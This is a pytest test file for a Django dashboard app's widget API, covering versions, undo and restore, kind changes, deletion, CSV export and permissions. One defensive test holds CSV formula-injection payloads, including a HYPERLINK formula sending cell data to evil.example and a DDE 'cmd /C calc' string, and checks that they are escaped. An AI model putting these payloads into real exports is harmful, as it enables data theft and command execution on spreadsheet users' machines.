"""A widget's versions and direct edits: every change a version, undo and restore, kinds that fit the same rows,
soft delete, duplicate, move, refresh, CSV and the detail panel (services and API, with permissions)."""
from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from backend.llm.models import LLMCall
from widgets.models import Dashboard, RequestStatus, Widget, WidgetRequest, WidgetVersion
from widgets.services import runner
from widgets.services.requests import widget_request_create
from widgets.services.widget_edits import kind_choices, spec_with_kind

pytestmark = pytest.mark.django_db


def _build(user, dashboard, prompt: str) -> Widget:
    request = widget_request_create(user=user, dashboard=dashboard, prompt=prompt, enqueue=False)
    assert runner.run(request_id=request.id) == RequestStatus.READY
    request.refresh_from_db()
    return request.widget


@pytest.fixture
def bars(demo_source, analyst, dashboard) -> Widget:
    return _build(analyst, dashboard, "claim count by region over the last 90 days")


def test_a_built_widget_is_its_first_version_and_its_request_points_at_it(bars):
    version = bars.versions.get()
    assert (bars.version, bars.latest_version, version.number, version.origin) == (1, 1, 1, "create")
    assert version.spec == bars.spec and version.sql == bars.sql and version.sql_explanation
    assert list(bars.requests.values_list("id", flat=True)) == [bars.request_id]
    assert WidgetRequest.objects.get(id=bars.request_id).widget_id == bars.id


def test_renaming_writes_a_version_that_says_what_changed(client_for, analyst, bars):
    response = client_for(analyst).patch(f"/api/widgets/{bars.id}/", {"title": "Claims per region"}, format="json")
    assert response.status_code == 200, response.json()
    body = response.json()
    assert (body["title"], body["version"], body["version_count"], body["can_edit"]) == ("Claims per region", 2, 2, True)
    versions = client_for(analyst).get(f"/api/widgets/{bars.id}/versions/").json()["results"]
    assert [(v["number"], v["source"], v["is_current"]) for v in versions] == [(2, "edit", True), (1, "create", False)]
    assert "Title:" in versions[0]["change"] and "Claims per region" in versions[0]["change"]
    assert versions[0]["created_by"] == "ana"


def test_a_bar_chart_becomes_a_line_or_a_table_over_the_same_rows(client_for, analyst, bars):
    sql = bars.sql
    client = client_for(analyst)
    line = client.patch(f"/api/widgets/{bars.id}/", {"kind": "line"}, format="json").json()
    assert (line["kind"], line["spec"]["chart_type"], line["sql"]) == ("chart", "line", sql)
    table = client.patch(f"/api/widgets/{bars.id}/", {"kind": "table"}, format="json").json()
    assert (table["kind"], table["spec"]["chart_type"], table["sql"], table["version"]) == ("table", None, sql, 3)
    assert table["result"]["rows"], "a table's rows are fetched for the version shown"


def test_a_kpi_into_a_chart_needs_a_refinement(client_for, demo_source, analyst, dashboard):
    kpi = _build(analyst, dashboard, "total paid over the last 30 days")
    response = client_for(analyst).patch(f"/api/widgets/{kpi.id}/", {"kind": "line"}, format="json")
    assert response.status_code == 400
    assert response.json()["code"] == "kind_needs_refine" and response.json()["extra"]["reason"]
    assert Widget.objects.get(id=kpi.id).version == 1  # nothing written


@pytest.mark.parametrize(("spec", "kind", "fits"), [
    ({"dimensions": ["regions.name"], "chart_type": "bar", "kind": "chart"}, "pie", True),
    ({"dimensions": ["regions.name"], "chart_type": "bar", "kind": "chart"}, "horizontal_bar", True),
    ({"dimensions": ["regions.name"], "chart_type": "bar", "kind": "chart"}, "stacked_bar", False),
    ({"dimensions": ["regions.name"], "chart_type": "bar", "kind": "chart"}, "scatter", False),
    ({"dimensions": [], "grain": "month", "chart_type": "line", "kind": "chart"}, "pie", False),
    ({"dimensions": [], "grain": "month", "chart_type": "line", "kind": "chart"}, "area", True),
    ({"dimensions": [], "chart_type": None, "kind": "table"}, "kpi", True),
    ({"dimensions": [], "chart_type": None, "kind": "table"}, "bar", False),
    ({"dimensions": [], "chart_type": None, "kind": "kpi"}, "table", True),
    ({"dimensions": ["regions.name"], "chart_type": None, "kind": "custom", "visual": "x"}, "bar", False),
])
def test_which_kinds_fit_the_same_rows(spec, kind, fits):
    base = {"title": "T", "metric": {"key": "claim_count", "name": "Claim count", "unit": "count"},
            "extra_metrics": [], "filters": [], "time_window": {"kind": "rolling", "n": 30, "unit": "day"},
            "compare": None, "grain": None, "ranking": None, "sort": None, **spec}
    if fits:
        assert spec_with_kind(base, kind)["kind"] in ("chart", "table", "kpi")
    else:
        from backend.errors import ApplicationError

        with pytest.raises(ApplicationError) as caught:
            spec_with_kind(base, kind)
        assert caught.value.code == "kind_needs_refine"


def test_the_kind_menu_is_the_rule_patch_applies(client_for, analyst, other_analyst, dashboard, bars):
    """Each kind the owner is offered as fitting is one a PATCH takes, and each misfit is refused with the
    reason the menu showed; a viewer of a shared dashboard is offered none."""
    offered = client_for(analyst).get(f"/api/widgets/{bars.id}/").json()["kind_choices"]
    assert {c["kind"] for c in offered} == {"kpi", "table", "line", "area", "stacked_area", "horizontal_bar",
                                            "stacked_bar", "pie", "donut", "scatter"}, "all but the current bar"
    for choice in offered:
        if choice["fits"]:
            assert choice["reason"] == ""
            assert spec_with_kind(bars.spec, choice["kind"])
        else:
            from backend.errors import ApplicationError

            with pytest.raises(ApplicationError) as caught:
                spec_with_kind(bars.spec, choice["kind"])
            assert caught.value.extra["reason"].lower() in choice["reason"].lower()
    assert {c["kind"] for c in offered if c["fits"]} >= {"table", "line", "pie"}
    assert {c["kind"] for c in offered if not c["fits"]} >= {"kpi", "stacked_bar", "scatter"}
    dashboard.is_private = False
    dashboard.save(update_fields=["is_private"])
    assert client_for(other_analyst).get(f"/api/widgets/{bars.id}/").json()["kind_choices"] == []


def test_a_custom_widget_and_a_grouped_table_say_why_not_a_kpi():
    base = {"title": "T", "metric": {"key": "claim_count", "name": "Claim count", "unit": "count"},
            "extra_metrics": [], "filters": [], "time_window": {"kind": "rolling", "n": 30, "unit": "day"},
            "compare": None, "ranking": None, "sort": None}
    assert kind_choices(spec={**base, "kind": "custom", "dimensions": [], "grain": None, "visual": "x"}) == []
    grouped = kind_choices(spec={**base, "kind": "table", "dimensions": ["regions.name"], "grain": "month",
                                 "chart_type": None})
    kpi = next(c for c in grouped if c["kind"] == "kpi")
    assert not kpi["fits"] and kpi["reason"].startswith("A KPI shows one number") and kpi["reason"].endswith(".")
    assert next(c for c in grouped if c["kind"] == "stacked_bar")["fits"]


def test_undo_and_restore_write_versions_and_undo_keeps_going_back(client_for, analyst, bars):
    client = client_for(analyst)
    original = bars.title
    client.patch(f"/api/widgets/{bars.id}/", {"title": "Two"}, format="json")
    client.patch(f"/api/widgets/{bars.id}/", {"title": "Three"}, format="json")
    undone = client.post(f"/api/widgets/{bars.id}/undo/").json()
    assert (undone["title"], undone["version"]) == ("Two", 4)
    again = client.post(f"/api/widgets/{bars.id}/undo/").json()
    assert (again["title"], again["version"]) == (original, 5)  # not back to "Three"
    response = client.post(f"/api/widgets/{bars.id}/undo/")
    assert response.status_code == 409 and response.json()["code"] == "nothing_to_undo"
    restored = client.post(f"/api/widgets/{bars.id}/versions/3/restore/").json()
    assert (restored["title"], restored["version"]) == ("Three", 6)
    latest = WidgetVersion.objects.get(widget=bars, number=6)
    assert (latest.origin, latest.restored_from) == ("restore", 3)
    assert client.post(f"/api/widgets/{bars.id}/versions/99/restore/").status_code == 404


def test_undo_at_the_first_version_is_a_conflict(client_for, analyst, bars):
    response = client_for(analyst).post(f"/api/widgets/{bars.id}/undo/")
    assert response.status_code == 409 and response.json()["code"] == "nothing_to_undo"


def test_restoring_a_version_with_other_rows_fetches_its_data(client_for, analyst, bars):
    client = client_for(analyst)
    client.patch(f"/api/widgets/{bars.id}/", {"kind": "table"}, format="json")
    rows_as_table = Widget.objects.get(id=bars.id).result["rows"]
    back = client.post(f"/api/widgets/{bars.id}/versions/1/restore/").json()
    assert back["kind"] == "chart" and back["result"]["rows"] == rows_as_table and back["result_at"]


def test_a_long_history_comes_in_pages_newest_first_with_the_shown_version_on_the_first(client_for, analyst, bars):
    client = client_for(analyst)
    for n in range(5):
        assert client.patch(f"/api/widgets/{bars.id}/", {"title": f"Claims {n}"}, format="json").status_code == 200
    first = client.get(f"/api/widgets/{bars.id}/versions/?page_size=2").json()
    assert first["count"] == 6 and first["previous"] is None and first["next"]
    assert [(v["number"], v["is_current"]) for v in first["results"]] == [(6, True), (5, False)]
    numbers = [v["number"] for v in first["results"]]
    page = first
    while page["next"]:
        page = client.get(page["next"]).json()
        numbers += [v["number"] for v in page["results"]]
    assert numbers == [6, 5, 4, 3, 2, 1]
    past = client.get(f"/api/widgets/{bars.id}/versions/?page_size=2&page=9")
    assert past.status_code == 404 and past.json()["code"] == "not_found"
    bad = client.get(f"/api/widgets/{bars.id}/versions/?page=abc")
    assert bad.status_code == 400 and set(bad.json()) == {"code", "message", "extra"}


def test_a_deleted_widget_is_hidden_listed_in_the_history_and_restorable(client_for, analyst, dashboard, bars):
    client = client_for(analyst)
    deleted = client.delete(f"/api/widgets/{bars.id}/")
    assert deleted.status_code == 200 and deleted.json()["id"] == bars.id and deleted.json()["deleted_at"]
    assert client.get(f"/api/dashboards/{dashboard.id}/").json()["widgets"] == []
    assert client.get(f"/api/widgets/{bars.id}/").status_code == 404
    history = client.get(f"/api/dashboards/{dashboard.id}/history/").json()
    assert history["count"] == 1 and [w["id"] for w in history["results"]] == [bars.id]
    restored = client.post(f"/api/widgets/{bars.id}/restore/")
    assert restored.status_code == 200 and restored.json()["deleted_at"] is None
    assert [w["id"] for w in client.get(f"/api/dashboards/{dashboard.id}/").json()["widgets"]] == [bars.id]
    again = client.post(f"/api/widgets/{bars.id}/restore/")
    assert again.status_code == 409 and again.json()["code"] == "not_deleted"


def test_duplicate_and_move_stay_among_the_owners_dashboards(client_for, analyst, other_analyst, dashboard, bars):
    client = client_for(analyst)
    second = Dashboard.objects.create(owner=analyst, name="Second")
    theirs = Dashboard.objects.create(owner=other_analyst, name="Theirs", is_private=False)
    copy = client.post(f"/api/widgets/{bars.id}/duplicate/", {}, format="json")
    assert copy.status_code == 201
    body = copy.json()
    assert body["id"] != bars.id and body["sql"] == bars.sql and body["version"] == 1
    assert WidgetVersion.objects.get(widget_id=body["id"]).change.startswith("Duplicated from")
    elsewhere = client.post(f"/api/widgets/{bars.id}/duplicate/", {"dashboard_id": second.id}, format="json")
    assert Widget.objects.get(id=elsewhere.json()["id"]).dashboard_id == second.id
    moved = client.post(f"/api/widgets/{bars.id}/move/", {"dashboard_id": second.id}, format="json")
    assert moved.status_code == 200 and Widget.objects.get(id=bars.id).dashboard_id == second.id
    assert client.post(f"/api/widgets/{bars.id}/move/", {"dashboard_id": theirs.id}, format="json").status_code == 404
    assert client.post(f"/api/widgets/{bars.id}/move/", {}, format="json").status_code == 400


def test_refresh_now_runs_the_query(client_for, analyst, bars):
    Widget.objects.filter(id=bars.id).update(result={"columns": [], "rows": [], "truncated": False})
    body = client_for(analyst).post(f"/api/widgets/{bars.id}/refresh/").json()
    assert body["result"]["rows"] and body["source"] == "live"


def test_csv_has_labels_and_value_labels_and_says_when_rows_were_cut(client_for, analyst, bars):
    response = client_for(analyst).get(f"/api/widgets/{bars.id}/data.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="widget-{bars.id}.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Region", "Claim count"]
    assert len(rows) == 1 + len(bars.result["rows"]) and response["X-Rows-Truncated"] == "false"
    Widget.objects.filter(id=bars.id).update(result={**bars.result, "truncated": True})
    cut = client_for(analyst).get(f"/api/widgets/{bars.id}/data.csv")
    assert cut.content.decode().splitlines()[-1].startswith("# Truncated") and cut["X-Rows-Truncated"] == "true"


def test_detail_lists_every_llm_call_and_the_total_cost(client_for, analyst, bars):
    body = client_for(analyst).get(f"/api/widgets/{bars.id}/detail/").json()
    assert body["spec"] == bars.spec and body["sql"] == bars.sql
    assert body["sql_pretty"].count("\n") > bars.sql.count("\n") and body["sql_explanation"]
    assert ":window_start" in bars.sql  # the placeholders as the card shows them, not in DuckDB's $name
    assert ":window_start" in body["sql_pretty"] and "$window" not in body["sql_pretty"]
    assert body["interpretation"]["text"] and body["tsx"] is None
    calls = LLMCall.objects.filter(widget_request_id=bars.request_id)
    assert len(body["calls"]) == calls.count() >= 3
    assert {c["step"] for c in body["calls"]} >= {"clarify", "spec", "sql"}
    assert set(body["calls"][0]) >= {"step", "tier", "model", "latency_ms", "input_tokens", "output_tokens",
                                     "cost_usd", "outcome", "at"}
    assert body["total_cost_usd"] == f"{sum(c.cost_usd for c in calls):.6f}"


def test_permissions_owner_writes_a_viewer_reads_others_see_nothing(client_for, analyst, other_analyst, dashboard,
                                                                   bars):
    stranger = client_for(other_analyst)
    writes = [("patch", f"/api/widgets/{bars.id}/", {"title": "x"}), ("delete", f"/api/widgets/{bars.id}/", None),
              ("post", f"/api/widgets/{bars.id}/undo/", None), ("post", f"/api/widgets/{bars.id}/refresh/", None),
              ("post", f"/api/widgets/{bars.id}/versions/1/restore/", None),
              ("post", f"/api/widgets/{bars.id}/duplicate/", {}),
              ("post", f"/api/widgets/{bars.id}/refine/", {"prompt": "weekly"})]
    reads = [f"/api/widgets/{bars.id}/", f"/api/widgets/{bars.id}/versions/", f"/api/widgets/{bars.id}/detail/",
             f"/api/widgets/{bars.id}/data.csv", f"/api/dashboards/{dashboard.id}/history/"]
    for url in reads:  # a private dashboard: nothing of it is found
        assert stranger.get(url).status_code == 404, url
    for method, url, body in writes:
        assert getattr(stranger, method)(url, body, format="json").status_code == 404, url
    Dashboard.objects.filter(id=dashboard.id).update(is_private=False)
    for url in reads:  # shared: readable
        assert stranger.get(url).status_code == 200, url
    assert stranger.get(f"/api/widgets/{bars.id}/").json()["can_edit"] is False
    for method, url, body in writes:  # and view-only
        response = getattr(stranger, method)(url, body, format="json")
        assert response.status_code == 403 and response.json()["code"] == "forbidden", url
    anonymous = APIClient()
    for url in reads:
        assert anonymous.get(url).status_code in (401, 403), url
    assert Widget.objects.get(id=bars.id).version == 1


@pytest.mark.parametrize("body", [{"title": ""}, {"title": "x" * 121}, {"kind": "gauge"}, {"title": None}])
def test_bad_edits_get_a_clear_400(client_for, analyst, bars, body):
    response = client_for(analyst).patch(f"/api/widgets/{bars.id}/", body, format="json")
    assert response.status_code == 400 and response.json()["code"]
    assert Widget.objects.get(id=bars.id).version == 1


def test_csv_cells_are_value_labels_not_codes(client_for, demo_source, analyst, dashboard):
    widget = _build(analyst, dashboard, "claim count by status over the last 90 days")
    codes = {row[0] for row in widget.result["rows"]}
    assert any("_" in str(code) or str(code).islower() for code in codes), codes
    rows = list(csv.reader(io.StringIO(client_for(analyst).get(f"/api/widgets/{widget.id}/data.csv").content.decode())))
    assert rows[0][0] == "Status" or rows[0][0].endswith("status")
    cells = {row[0] for row in rows[1:]}
    assert cells and not cells & codes - {c.capitalize() for c in codes}, (cells, codes)
    assert all(c[:1].isupper() for c in cells)


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(client_for, analyst, bars):
    """A warehouse label is untrusted: one starting with = + - @ (or a full-width form, or a tab) leaves as
    text with a leading apostrophe, while figures, negative ones included, stay numbers."""
    hostile = ['=HYPERLINK("http://evil.example/?x="&B3,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
               "-2+3", "\t=1", " =1", "\uff1d1", "North"]
    result = dict(bars.result)
    result["rows"] = [[label, -12.5 if i % 2 else "-12.5"] for i, label in enumerate(hostile)]
    result["truncated"] = False
    Widget.objects.filter(id=bars.id).update(result=result)
    text = client_for(analyst).get(f"/api/widgets/{bars.id}/data.csv").content.decode()
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[0] for r in rows] == ["'" + h for h in hostile[:-1]] + ["North"]
    assert {r[1] for r in rows} == {"-12.5"}, "a figure is never made text"


def test_staff_read_a_private_widget_read_only_and_the_opening_is_recorded(client_for, django_user_model, bars):
    from widgets.models import DashboardAccess

    staff = django_user_model.objects.create_user(username="helper", password="pw-helper-123", is_staff=True)
    client = client_for(staff)
    assert client.get(f"/api/widgets/{bars.id}/").json()["can_edit"] is False
    assert client.get(f"/api/widgets/{bars.id}/detail/").status_code == 200
    assert DashboardAccess.objects.filter(staff=staff, dashboard_id=bars.dashboard_id).count() == 1  # one visit
    assert client.patch(f"/api/widgets/{bars.id}/", {"title": "x"}, format="json").status_code == 403
    assert client.post(f"/api/widgets/{bars.id}/refine/", {"prompt": "weekly"}, format="json").status_code == 403


def test_a_token_reads_and_edits_a_widget(analyst, bars):
    from backend.accounts.services import api_token_create

    _, key = api_token_create(user=analyst, name="script")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    assert client.get(f"/api/widgets/{bars.id}/").status_code == 200
    assert client.patch(f"/api/widgets/{bars.id}/", {"title": "By script"}, format="json").json()["version"] == 2
